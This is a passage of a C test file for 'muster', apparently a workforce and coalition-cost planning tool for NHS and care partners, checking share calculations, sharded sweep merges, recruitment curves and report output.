	out[0] = '\0';
	for (k = 1; k < col && line; k++)
		line = (line = strchr(line, ',')) ? line + 1 : NULL;
	if (line) {
		size_t n = strcspn(line, ",\n");
		snprintf(out, size, "%.*s", (int)(n < size ? n : size - 1), line);
	}
	free(text);
}

/* muster shares on the example: the shares add up to the saving, each
 * partner's gain plus its transfer is its share, the core check is said;
 * a sampled estimate has standard errors and is the same for a seed. */
static void test_cli_shares_add_up_and_settle(void **state)
{
	struct tu_result r;
	char path[400], cell[64], *a, *b;
	double share = 0, gain = 0;
	size_t p;
	(void)state;
	r = tu_run("shares", getenv("MUSTER_EXAMPLE_DIR"), "--out", "sh", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "128 coalitions solved"));
	assert_non_null(strstr(r.out, "in the core"));
	/* the weighted shares are value, not money: "pays" only in the cash
	 * settlement, per week (the example's shifts span 7 days) */
	assert_non_null(
	    strstr(r.out, "Transfers of value (spend plus penalty weights, not money)"));
	a = strstr(r.out, "Settlement in cash, per week");
	assert_non_null(a);
	b = strstr(r.out, " pays ");
	assert_true(b && b > a);
	/* value (spend plus penalty weights) is never shown as pounds: the
	 * saving, the hospice's gain, share and transfer, on the terminal
	 * and the page (issue 24); the cash game keeps its pounds */
	tu_path(path, sizeof(path), "sh/shares.csv");
	{
		char page[400], *html;
		tu_path(page, sizeof(page), "sh/report.html");
		html = tu_slurp(page);
		assert_shown_as_weight(r.out, csv_value(path, "SYSTEM,", 6));
		assert_shown_as_weight(html, csv_value(path, "SYSTEM,", 6));
		for (p = 5; p <= 8; p += 1 + (p == 6)) {
			assert_shown_as_weight(r.out, csv_value(path, "hospice,", (int)p));
			assert_shown_as_weight(html, csv_value(path, "hospice,", (int)p));
		}
		assert_null(strstr(r.out, "would save"));
		assert_non_null(strstr(r.out, "): working together spends \xc2\xa3"));
		free(html);
	}
	{
		/* money with two decimals, each column adding up to SYSTEM's as
		 * written (issue 24) */
		char why[512];
		if (!sum_check_shares(path, why, sizeof(why)))
			fail_msg("%s", why);
	}
	tu_result_free(&r);
	{
		/* the cash game: each partner's fall in net cash plus its cash
		 * transfer is its cash share; the cash shares add up to the fall
		 * in spend; the hospice's net cash together is its spend (checked
		 * by hand against plan.csv: bank £8,644.47 at bank_rate, the rate
		 * rows' £2,539.17 above it and extra staff £352.62 (supply.csv),
		 * agency £3,000.00; 4p less as the rows are rounded) */
		static const char *const ids[] = {"acute_north,", "cmh_trust,", "acute_south,",
		                                  "asc_county,",  "asc_city,",  "homecare,",
		                                  "hospice,"};
		double cash_share = 0, cash_gain = 0;
		for (p = 0; p < 7; p++) {
			double g = csv_value(path, ids[p], 14), s = csv_value(path, ids[p], 15);
			assert_true(fabs(csv_value(path, ids[p], 12) - csv_value(path, ids[p], 13) -
			                 g) < 1e-3);
			assert_true(fabs(g + csv_value(path, ids[p], 16) - s) <
			            1e-6 * (1 + fabs(s)));
			assert_true(fabs(csv_value(path, ids[p], 17) - 7) < 1e-9);
			cash_share += s;
			cash_gain += g;
		}
		assert_true(fabs(cash_share - cash_gain) < 1e-4);
		assert_true(fabs(csv_value(path, "SYSTEM,", 15) - cash_share) < 1e-4);
		assert_true(fabs(csv_value(path, "hospice,", 13) - 14536.30) < 0.01);
		assert_true(fabs(csv_value(path, "hospice,", 19) - -8) < 1e-9);
	}
	for (p = 0; p < 7; p++) {
		static const char *const ids[] = {"acute_north", "cmh_trust", "acute_south",
		                                  "asc_county",  "asc_city",  "homecare",
		                                  "hospice"};
		char prefix[64];
		double g, s, t;
		snprintf(prefix, sizeof(prefix), "%s,", ids[p]);
		g = csv_value(path, prefix, 5);
		s = csv_value(path, prefix, 6);
		t = csv_value(path, prefix, 8);
		assert_true(fabs(g + t - s) < 1e-6 * (1 + fabs(s)));
		/* to the penny: silo - system is the gain as written */
		assert_true(fabs(csv_value(path, prefix, 3) - csv_value(path, prefix, 4) - g) <
		            1e-3);
		share += s;
		gain += g;
	}
	/* the shares add up to the saving, the gains too */
	assert_true(fabs(share - gain) < 1e-4);
	assert_true(fabs(csv_value(path, "SYSTEM,", 6) - share) < 1e-4);
	csv_cell(path, "SYSTEM,", 9, cell, sizeof(cell));
	assert_true(strcmp(cell, "yes") == 0 || strcmp(cell, "no") == 0);
	/* sampled: standard errors, the same for the same seed */
	r = tu_run("shares", getenv("MUSTER_EXAMPLE_DIR"), "--samples", "3", "--seed", "7", "--out",
	           "sa", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "std error"));
	tu_result_free(&r);
	r = tu_run("shares", getenv("MUSTER_EXAMPLE_DIR"), "--samples", "3", "--seed", "7", "--out",
	           "sb", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	tu_path(path, sizeof(path), "sa/shares.csv");
	a = tu_slurp(path);
	tu_path(path, sizeof(path), "sb/shares.csv");
	b = tu_slurp(path);
	assert_string_equal(a, b);
	tu_path(path, sizeof(path), "sa/shares.csv");
	csv_cell(path, "hospice,", 7, cell, sizeof(cell));
	assert_true(cell[0] != '\0');
	{
		char why[512];
		if (!sum_check_shares(path, why, sizeof(why)))
			fail_msg("%s", why);
	}
	free(a);
	free(b);
	r = tu_run("shares", getenv("MUSTER_EXAMPLE_DIR"), "--samples", "0", NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
}

/* Starts muster with the NULL-terminated args (after the binary) in tu_dir(),
 * its stdout and stderr to tu_dir()/NAME.out and NAME.err; returns its pid,
 * for waitpid. */
static pid_t start(const char *name, const char *const *args)
{
	char out_path[300], err_path[300];
	snprintf(out_path, sizeof(out_path), "%s/%s.out", tu_dir(), name);
	snprintf(err_path, sizeof(err_path), "%s/%s.err", tu_dir(), name);
	return tu_spawn(&(struct tu_child){0}, args, out_path, err_path);
}

static int add_row(void *ctx, int n, char **values, char **names)
{
	int i;
	(void)names;
	for (i = 0; i < n; i++)
		mu_buf_addf(ctx, "%s%s", values[i] ? values[i] : "NULL", i + 1 < n ? " | " : "\n");
	return 0;
}

/* What one process's sweep and the merge of its shards must share, run by
 * run in id order: the sweep, point, status, objective, values, settings and
 * SYSTEM KPIs (to the cent or 0.001). Not the partner-level KPIs or plan rows:
 * a point warm-started from another point may reach another optimum of the
 * same cost - on the example it does (acute_north's agency hours at
 * agency_cap.rn_b5 = 35 differ by 19 h between the two, the cost not). */
static char *sweep_rows(const char *name)
{
	char path[400];
	struct mu_buf rows;
	sqlite3 *db;
	tu_path(path, sizeof(path), name);
	mu_buf_init(&rows);
	assert_int_equal(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	assert_int_equal(
	    sqlite3_exec(
	        db,
	        "SELECT r.sweep_id, r.point, r.command, r.mode, r.is_silo, r.status,"
	        " printf('%.2f', r.objective),"
	        " (SELECT group_concat(name || '=' || value, ', ') FROM run_vary v"
	        "  WHERE v.run_id = r.id),"
	        " (SELECT group_concat(key || '=' || value, ', ') FROM (SELECT * FROM run_settings"
	        "  WHERE run_id = r.id ORDER BY key)),"
	        " (SELECT group_concat(name || '=' || printf('%.3f', value), ', ') FROM (SELECT * "
	        "FROM"
	        "  run_kpis WHERE run_id = r.id AND scope = 'SYSTEM' ORDER BY name)),"
	        " (SELECT mode || is_silo || vary || n_points || coalesce(shard, '') FROM sweeps"
	        "  WHERE id = r.sweep_id)"
	        " FROM runs r ORDER BY r.id",
	        add_row, &rows, NULL),
	    SQLITE_OK);
	sqlite3_close(db);
	return mu_buf_detach(&rows, NULL);
}

/* `muster runs` without its time column. */
static char *runs_without_times(const char *db)
{
	struct tu_result r = tu_run("runs", "--db", db, NULL);
	struct mu_buf out;
	const char *line;
	assert_int_equal(r.status, 0);
	mu_buf_init(&out);
	for (line = r.out; *line;) {
		const char *end = strchr(line, '\n');
		size_t len = end ? (size_t)(end - line) : strlen(line);
		assert_true(len > 29);
		mu_buf_add(&out, line, 7);
		mu_buf_add(&out, line + 29, len - 29 + (end ? 1 : 0));
		line += len + (end ? 1 : 0);
	}
	tu_result_free(&r);
	return mu_buf_detach(&out, NULL);
}

static void test_cli_sharded_sweep_merges_into_one_process_sweep(void **state)
{
	const char *ex = fixed_supply_example("shard-ex"), *vary = "agency_cap.rn_b5=25:40:5";
	const char *const shard1[] = {"sweep",   ex,    "--lp", "--vary", vary,
	                              "--shard", "1/2", "--db", "s1.db",  NULL};
	const char *const shard2[] = {"sweep",   ex,    "--lp", "--vary", vary,
	                              "--shard", "2/2", "--db", "s2.db",  NULL};
	static const char *const bad[] = {"0/2", "3/2", "1/0", "1/", "/2", "a/b", "1/2/3", "12"};
	char *one, *merged, path[400];
	pid_t p1, p2;
	int st1, st2;
	size_t i;
	struct tu_result r;
	(void)state;

	r = tu_run("sweep", ex, "--lp", "--vary", vary, "--db", "one.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	/* the two shards in parallel, as two jobs of an array would run */
	p1 = start("shard1", shard1);
	p2 = start("shard2", shard2);
	assert_int_equal(waitpid(p1, &st1, 0), p1);
	assert_int_equal(waitpid(p2, &st2, 0), p2);
	assert_true(WIFEXITED(st1) && WEXITSTATUS(st1) == 0);
	assert_true(WIFEXITED(st2) && WEXITSTATUS(st2) == 0);

	/* a shard's database alone is refused, naming the missing shard, and
	 * leaves no OUT */
	r = tu_run("merge", "--db", "m.db", "s2.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "lacks point 1 of 4"));
	assert_non_null(strstr(r.err, "shard 1/2"));
	tu_path(path, sizeof(path), "m.db");
	assert_int_not_equal(access(path, F_OK), 0);
	tu_result_free(&r);

	/* shard 2 first: the merged sweep's runs are still in point order */
	r = tu_run("merge", "--db", "m.db", "s2.db", "s1.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "4 runs, 1 sweep (1 put together from 2 shards)"));
	tu_result_free(&r);
	one = sweep_rows("one.db");
	merged = sweep_rows("m.db");
	assert_string_equal(merged, one);
	free(one);
	free(merged);
	one = runs_without_times("one.db");
	merged = runs_without_times("m.db");
	assert_string_equal(merged, one);
	free(one);
	free(merged);

	/* merged twice: the points are there twice, refused */
	r = tu_run("merge", "--db", "m2.db", "s1.db", "s2.db", "m.db", NULL);
	assert_int_equal(r.status, 0); /* m.db's sweep is whole: copied as it is */
	tu_result_free(&r);
	r = tu_run("merge", "--db", "m3.db", "s1.db", "s2.db", "s1.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "given twice"));
	tu_result_free(&r);

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		r = tu_run("sweep", ex, "--lp", "--vary", vary, "--shard", bad[i], "--db", "x.db",
		           NULL);
		assert_int_equal(r.status, 2);
		assert_non_null(strstr(r.err, "invalid --shard"));
		tu_result_free(&r);
	}
	/* a job array wider than the sweep: the extra shard has nothing to do */
	r = tu_run("sweep", ex, "--lp", "--vary", vary, "--shard", "7/8", "--db", "x.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "no point to solve"));
	tu_path(path, sizeof(path), "x.db");
	assert_int_not_equal(access(path, F_OK), 0);
	tu_result_free(&r);
}

/* shares.csv files a and b (under the test folder) say the same: the same
 * cells, numbers within 1e-6 (1 + |x|) of each other. A coalition's value
 * is an LP's optimum, solved from whatever basis the process that solved
 * it had: the same number up to the simplex's last bits. The cash game's
 * cells too: the store keeps each coalition's spend (schema 6). */
static void expect_same_shares(const char *a, const char *b)
{
	char path[400], *x, *y, *sx, *sy, *line_x, *line_y;
	size_t n_cells = 0;
	tu_path(path, sizeof(path), a);
	x = tu_slurp(path);
	tu_path(path, sizeof(path), b);
	y = tu_slurp(path);
	line_x = strtok_r(x, "\n", &sx);
	line_y = strtok_r(y, "\n", &sy);
	for (; line_x && line_y;
	     line_x = strtok_r(NULL, "\n", &sx), line_y = strtok_r(NULL, "\n", &sy)) {
		char *cx = line_x, *cy = line_y;
		for (;; n_cells++) {
			char *ex = strchr(cx, ','), *ey = strchr(cy, ','), *tx, *ty;
			double u, v;
			assert_true(!ex == !ey); /* as many cells */
			if (ex)
				*ex = *ey = '\0';
			u = strtod(cx, &tx);
			v = strtod(cy, &ty);
			if (strcmp(cx, cy) != 0 && (tx == cx || *tx || ty == cy || *ty ||
			                            !(fabs(u - v) <= 1e-6 * (1 + fabs(u)))))
				fail_msg("%s and %s differ: '%s' and '%s'", a, b, cx, cy);
			if (!ex)
				break;
			cx = ex + 1;
			cy = ey + 1;
		}
	}
	assert_true(!line_x && !line_y);
	assert_true(n_cells > 50);
	free(x);
	free(y);
}

/* Shares from shards' coalition values, merged, equal one process's:
 * sampled (two shards, run at once) and exact (three). */
static void test_cli_sharded_shares_merge_into_one_process_shares(void **state)
{
	const char *ex = getenv("MUSTER_EXAMPLE_DIR");
	const char *const shard1[] = {"shares",  ex,    "--samples", "4",     "--seed", "3",
	                              "--shard", "1/2", "--db",      "v1.db", NULL};
	const char *const shard2[] = {"shares",  ex,    "--samples", "4",     "--seed", "3",
	                              "--shard", "2/2", "--db",      "v2.db", NULL};
	struct tu_result r;
	pid_t p1, p2;
	int st1, st2, i;
	(void)state;
	p1 = start("vshard1", shard1);
	p2 = start("vshard2", shard2);
	assert_int_equal(waitpid(p1, &st1, 0), p1);
	assert_int_equal(waitpid(p2, &st2, 0), p2);
	assert_true(WIFEXITED(st1) && WEXITSTATUS(st1) == 0);
	assert_true(WIFEXITED(st2) && WEXITSTATUS(st2) == 0);
	r = tu_run("merge", "--db", "vm.db", "v1.db", "v2.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "coalition values"));
	tu_result_free(&r);
	r = tu_run("shares", ex, "--samples", "4", "--seed", "3", "--out", "sh_one", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	r = tu_run("shares", ex, "--samples", "4", "--seed", "3", "--db", "vm.db", "--out",
	           "sh_merged", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "0 solved"));
	tu_result_free(&r);
	expect_same_shares("sh_one/shares.csv", "sh_merged/shares.csv");
	/* exact: every coalition, in three parts of the Gray-code order */
	for (i = 1; i <= 3; i++) {
		char shard[8], db[16];
		snprintf(shard, sizeof(shard), "%d/3", i);
		snprintf(db, sizeof(db), "e%d.db", i);
		r = tu_run("shares", ex, "--shard", shard, "--db", db, NULL);
		assert_int_equal(r.status, 0);
		assert_non_null(strstr(r.out, i == 3 ? "42 coalitions" : "43 coalitions"));
		tu_result_free(&r);
	}
	r = tu_run("merge", "--db", "em.db", "e3.db", "e1.db", "e2.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "128 coalition values"));
	tu_result_free(&r);
	r = tu_run("shares", ex, "--db", "em.db", "--out", "ex_merged", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "128 recorded in em.db, 0 solved"));
	tu_result_free(&r);
	r = tu_run("shares", ex, "--out", "ex_one", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	expect_same_shares("ex_one/shares.csv", "ex_merged/shares.csv");
	/* values recorded before schema 6 have no spend: no cash game, said,
	 * and nothing "pays" */
	db_exec("em.db", "UPDATE coalition_values SET spend = NULL WHERE coalition = 5");
	r = tu_run("shares", ex, "--db", "em.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "No settlement in cash: it needs each coalition's spend"));
	assert_null(strstr(r.out, " pays "));
	tu_result_free(&r);
	r = tu_run("shares", ex, "--shard", "1/2", "--out", "x", NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
}

/* --- recruit (issue 18) --- */

#define RECRUIT_DAYS                                                                               \
	"id,date,start,end,paid_hours\n"                                                           \
	"d1,2026-11-30,08:00,16:00,8\nd2,2026-12-01,08:00,16:00,8\n"                               \
	"d3,2026-12-02,08:00,16:00,8\nd4,2026-12-03,08:00,16:00,8\n"                               \
	"d5,2026-12-04,08:00,16:00,8\nd6,2026-12-05,08:00,16:00,8\n"                               \
	"d7,2026-12-06,08:00,16:00,8\n"

/* A winter week that needs one nurse a day and a summer week that needs
 * none; posts of 40 h at 30,000 (test_recruit.c works it by hand: two
 * posts, 60,000 a year; one 113,200; none 291,200; three 90,000). */
/* The ids `muster runs --db db` lists for command, in order, into ids (at
 * most max); returns how many. */
static size_t listed_runs(const char *db, const char *command, long *ids, size_t max)
{
	struct tu_result r = tu_run("runs", "--db", db, NULL);
	const char *line;
	size_t n = 0;
	assert_int_equal(r.status, 0);
	for (line = r.out; line && *line;
	     line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
		long id;
		char time[64], cmd[32];
		if (sscanf(line, "%ld %63s %31s", &id, time, cmd) == 3 &&
		    strcmp(cmd, command) == 0 && n < max)
			ids[n++] = id;
	}
	tu_result_free(&r);
	return n;
}

/* Whether dir/report.html's header says what (issue 24: the run as
 * `muster runs` lists it). */
static bool page_says(const char *dir, const char *what)
{
	char name[300], path[400], *page;
	bool is_said;
	snprintf(name, sizeof(name), "%s/report.html", dir);
	tu_path(path, sizeof(path), name);
	page = tu_slurp(path);
	assert_non_null(page);
	is_said = strstr(page, what) != NULL;
	if (!is_said)
		print_error("%s/report.html does not say '%s'\n", dir, what);
	free(page);
	return is_said;
}

/* Every page of a recorded run names it as the store does: written once
 * the run is recorded, before the outputs go into --out. */
static void test_cli_report_names_the_recorded_run(void **state)
{
	const char *ex = getenv("MUSTER_EXAMPLE_DIR");
	long ids[8];
	char what[128], db[400];
	struct tu_result r;
	(void)state;
	tu_path(db, sizeof(db), "named.db");
	tu_remove_db(db);
	r = tu_run("solve", ex, "--lp", "--out", "named-solve", "--db", "named.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	assert_int_equal(listed_runs("named.db", "solve", ids, 8), 1);
	snprintf(what, sizeof(what), "<p class=\"sub\">Run %ld &middot; Scenario", ids[0]);
	assert_true(page_says("named-solve", what));
	assert_true(page_says("named-solve/partners/hospice", what));
	r = tu_run("compare", ex, "--lp", "--out", "named-compare", "--db", "named.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	assert_int_equal(listed_runs("named.db", "compare", ids, 8), 2);
	snprintf(what, sizeof(what), "Runs %ld (system) and %ld (silo) &middot;", ids[0], ids[1]);
	assert_true(page_says("named-compare", what));
	r = tu_run("sweep", ex, "--lp", "--vary", "shortfall_penalty=100:200:100", "--out",
	           "named-sweep", "--db", "named.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	assert_int_equal(listed_runs("named.db", "sweep", ids, 8), 2);
	snprintf(what, sizeof(what), "Runs %ld to %ld &middot;", ids[0], ids[1]);
	assert_true(page_says("named-sweep", what));
	r = tu_run("recruit", ex, "--lp", "--out", "named-recruit", "--db", "named.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	assert_int_equal(listed_runs("named.db", "recruit", ids, 8), 1);
	snprintf(what, sizeof(what), "<p class=\"sub\">Run %ld (set ", ids[0]);
	assert_true(page_says("named-recruit", what));
}

static void write_recruit_weeks(const char *recruits)
{
	const char *const winter[] = {
	    "partners.csv",
	    "id,name\na,Acute\n",
	    "roles.csv",
	    "id,name\nrn,Nurse\n",
	    "shifts.csv",
	    RECRUIT_DAYS,
	    "demand.csv",
	    "partner,role,shift,required\na,rn,d1,1\na,rn,d2,1\na,rn,d3,1\na,rn,d4,1\n"
	    "a,rn,d5,1\na,rn,d6,1\na,rn,d7,1\n",
	    "staff.csv",
	    "partner,role,shift,available\n",
	    "recruits.csv",
	    recruits,
	    NULL};
	const char *const summer[] = {"partners.csv",
	                              "id,name\na,Acute\n",
	                              "roles.csv",
	                              "id,name\nrn,Nurse\n",
	                              "shifts.csv",
	                              RECRUIT_DAYS,
	                              "demand.csv",
	                              "partner,role,shift,required\na,rn,d1,0\n",
	                              "staff.csv",
	                              "partner,role,shift,available\n",
	                              "recruits.csv",
	                              recruits,
	                              NULL};
	write_scenario("winter", winter);
	write_scenario("summer", summer);
}

static void test_cli_recruit_posts_curve_and_sentence(void **state)
{
	struct tu_result r;
	char path[400], cell[64];
	char *text;
	(void)state;
	write_recruit_weeks("partner,role,annual_cost,hours_per_week\na,rn,30000,40\n");
	r = tu_run("recruit", "winter", "summer", "--weights", "26,26", "--posts", "0:3:1", "--out",
	           "rec", "--db", "rec.db", NULL);
	assert_int_equal(r.status, 0);
	/* the yearly objective holds penalty weights: no pound sign, spend
	 * (the posts' pay in it) and the weights apart (issue 24) */
	assert_non_null(strstr(r.out, "rota: optimal, yearly objective 60,000.00 (spend "
	                              "£60,000.00 plus 0.00 in penalty weights)"));
	assert_non_null(strstr(r.out, "without new posts: yearly objective 291,200.00 (spend "
	                              "£0.00 plus 291,200.00 in penalty weights)"));
	assert_non_null(strstr(r.out, "2 Nurse posts at Acute cost £60,000 a year and lower the "
	                              "yearly objective (spend plus penalty weights) by 231,200; "
	                              "cash spend, their pay included, rises by £60,000, and 1456 "
	                              "more hours a year are filled; a 3rd post would raise the "
	                              "yearly objective by 30,000."));
	assert_shown_as_weight(r.out, 291200);
	assert_shown_as_weight(r.out, 231200);
	assert_shown_as_weight(r.out, 53200); /* the last post's value */
	assert_null(strstr(r.out, "yearly cost"));
	assert_non_null(strstr(r.out, "Break-even at 2 posts"));
	/* posts.csv: 2 posts; the last is worth 113,200 - 60,000 */
	tu_path(path, sizeof(path), "rec/posts.csv");
	csv_cell(path, "a,rn,", 3, cell, sizeof(cell));
	assert_string_equal(cell, "2");
	csv_cell(path, "a,rn,", 6, cell, sizeof(cell));
	assert_string_equal(cell, "53200.00");
	/* the curve, point by point */
	tu_path(path, sizeof(path), "rec/curve.csv");
	csv_cell(path, "0,optimal,", 3, cell, sizeof(cell));
	assert_string_equal(cell, "291200.00");
	csv_cell(path, "1,optimal,", 3, cell, sizeof(cell));
	assert_string_equal(cell, "113200.00");
	csv_cell(path, "2,optimal,", 3, cell, sizeof(cell));
	assert_string_equal(cell, "60000.00");
	csv_cell(path, "3,optimal,", 3, cell, sizeof(cell));
	assert_string_equal(cell, "90000.00");
	/* each week's plan and summary: winter has the posts' 56 own hours */
	tu_path(path, sizeof(path), "rec/week1/plan.csv");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "own,a,rn,rn,d1,a,,,1,8,0.00,0.00\n"));
	free(text);
	tu_path(path, sizeof(path), "rec/week2/summary.csv");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "SYSTEM,"));
	free(text);
	tu_path(path, sizeof(path), "rec/report.html");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "<svg"));
	assert_non_null(strstr(text, "break-even: 2 posts"));
	assert_non_null(strstr(text, "2 Nurse posts at Acute cost £60,000 a year"));
	assert_shown_as_weight(text, 291200);
	assert_shown_as_weight(text, 113200); /* the curve's table */
	assert_shown_as_weight(text, 53200);
	assert_null(strstr(text, "yearly cost"));
	assert_null(strstr(text, "whole-time equivalents")); /* rota mode: whole posts */
	/* the header names each week's scenario with its own hash (a review:
	 * only the first week's was named) */
	assert_non_null(strstr(text, "Scenarios <b>winter</b> (SHA-256 "));
	assert_non_null(strstr(text, "; <b>summer</b> (SHA-256 "));
	free(text);
	assert_null(strstr(r.out, "whole-time equivalents"));
	assert_non_null(strstr(r.out, "the weeks' runs recorded in rec.db as set 1"));
	tu_result_free(&r);
	/* the weeks' runs, one linked set: each its week's scenario and cost */
	r = tu_run("runs", "--db", "rec.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(
	    strstr(r.out, "recruit  rota           1  optimal                 0.00  winter"));
	assert_non_null(
	    strstr(r.out, "recruit  rota           1  optimal                 0.00  summer"));
	tu_result_free(&r);
	r = tu_run("show", "1", "--db", "rec.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "posts.a.rn"));
	tu_result_free(&r);

	/* summer-heavy weights: nobody is worth recruiting */
	r = tu_run("recruit", "winter", "summer", "--weights", "1,51", "--lp", "--db", "rec2.db",
	           "--out", "rec2", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "plan: optimal, yearly objective 11,200.00 (spend "));
	assert_non_null(strstr(r.out, "Recruiting nobody is best"));
	/* plan mode says its posts are fractions (issue 24), here and on the page */
	assert_non_null(strstr(r.out, "(plan mode: posts are whole-time equivalents, fractions "
	                              "of a post; without --lp they are whole)"));
	tu_path(path, sizeof(path), "rec2/report.html");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "posts are fractions of a post, whole-time equivalents"));
	free(text);
	tu_result_free(&r);
}

static void test_cli_recruit_refuses_with_the_reason(void **state)
{
	struct tu_result r;
	const char *const other[] = {
	    "recruits.csv", "partner,role,annual_cost,hours_per_week\na,rn,31000,40\n", NULL};
	(void)state;
	write_recruit_weeks("partner,role,annual_cost,hours_per_week\na,rn,30000,40\n");
	r = tu_run("recruit", "winter", "summer", "--weights", "26", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "invalid --weights '26'"));
	tu_result_free(&r);
	r = tu_run("recruit", "winter", "--posts", "3:1:1", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "invalid --posts '3:1:1'"));
	tu_result_free(&r);
	r = tu_run("recruit", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "missing WEEK folder"));
	tu_result_free(&r);
	r = tu_run("recruit", "winter", "--out", "winter", NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
	write_scenario("summer", other);
	r = tu_run("recruit", "winter", "summer", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "muster recruit: summer is not the system of winter: "
	                              "recruits.csv's row 1 differs"));
	tu_result_free(&r);
	/* check reads recruits.csv too, and names its errors */
	write_recruit_weeks("partner,role,annual_cost\nhospice,rn,30000\n");
	r = tu_run("check", "winter", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "recruits.csv:2:1: unknown partner 'hospice'"));
	tu_result_free(&r);
	write_recruit_weeks("partner,role,annual_cost\n");
	r = tu_run("recruit", "winter", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "has no recruits.csv rows: nothing to recruit"));
	tu_result_free(&r);
	/* other commands ignore it */
	write_recruit_weeks("partner,role,annual_cost\na,rn,30000\n");
	r = tu_run("solve", "winter", "--lp", "--db", "rec.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, ", objective 11,200.00"));
	tu_result_free(&r);
}

static double total_required(const struct mu_scenario *sc)
{
	double total = 0;
	size_t i;
	for (i = 0; i < sc->n_demand; i++)
		total += sc->demand[i].required;
	return total;
}

/* The money after key in text ("cost £1,234.56"); fails when key is missing. */
static double money_after(const char *text, const char *key)
{
	const char *at = strstr(text, key);
	if (!at)
		fail_msg("no '%s' in:\n%s", key, text);
	at += strlen(key);
	assert_true(strncmp(at, "\xc2\xa3", 2) == 0);
	return parse_money(at + 2);
}

/* The weights after key in text ("objective 1,234.56": no pound sign);
 * fails when key is missing or a pound sign follows it. */
static double weight_after(const char *text, const char *key)
{
	const char *at = strstr(text, key);
	if (!at)
		fail_msg("no '%s' in:\n%s", key, text);
	at += strlen(key);
	assert_true(isdigit((unsigned char)*at));
	return parse_money(at);
}

/* `example DIR --flow` (DESIGN.md §3f): either week with the example's
 * discharge pathway, io/example-flow's flow.csv byte for byte, checked;
 * solved in plan mode it says the sentence of §3f, writes discharges.csv
 * and the page's section. */
static void test_cli_example_with_its_pathway(void **state)
{
	static const char flow[] =
	    "from,to,waiting,care_role,care_hours,ward_role,ward_hours,"
	    "bed_day_cost\nacute_north,homecare,40,care_worker,2.5,rn_b5,1,395\n";
	struct tu_result r;
	char path[400], *text;
	(void)state;
	r = tu_run("example", "icf", "--flow", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(
	    strstr(r.out, "wrote 16 files of the example ICS with its discharge pathway to icf"));
	tu_result_free(&r);
	tu_path(path, sizeof(path), "icf/flow.csv");
	text = tu_slurp(path);
	assert_string_equal(text, flow);
	free(text);
	r = tu_run("example", "icfs", "--summer", "--flow", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "wrote 15 files of the example ICS (its summer week) with "
	                              "its discharge pathway"));
	tu_result_free(&r);
	r = tu_run("check", "icfs", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, ", 1 flow.csv pathway"));
	assert_null(strstr(r.err, "warning"));
	tu_result_free(&r);
	r = tu_run("solve", "icf", "--lp", "--out", "icf-out", "--db", "f.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "\n  Sending "));
	assert_non_null(strstr(r.out,
	                       " patients waiting at Northshire Acute Hospitals NHS Trust for "
	                       "care from Brightway Homecare home by "));
	tu_result_free(&r);
	tu_path(path, sizeof(path), "icf-out/report.html");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "<h2>Moving patients home sooner</h2>"));
	assert_non_null(strstr(text, "Each patient sent home from Northshire Acute"));
	free(text);
	tu_path(path, sizeof(path), "icf-out/discharges.csv");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "acute_north,homecare,care_worker,rn_b5,2026-11-30,"));
	{
		/* every figure to two decimals, plan mode's fractions too (not
		 * 22.89929499 beside 5.095607) */
		const char *line = strchr(text, '\n');
		size_t n_rows = 0;
		assert_non_null(line);
		while (line[1] != '\0') {
			const char *at = line + 1;
			int k, digits;
			for (k = 0; k < 5; k++)
				at = strchr(at, ',') + 1;
			for (k = 0; k < 6; k++) {
				at += strspn(at, "-0123456789");
				assert_int_equal(*at, '.');
				digits = (int)strspn(at + 1, "0123456789");
				assert_int_equal(digits, 2);
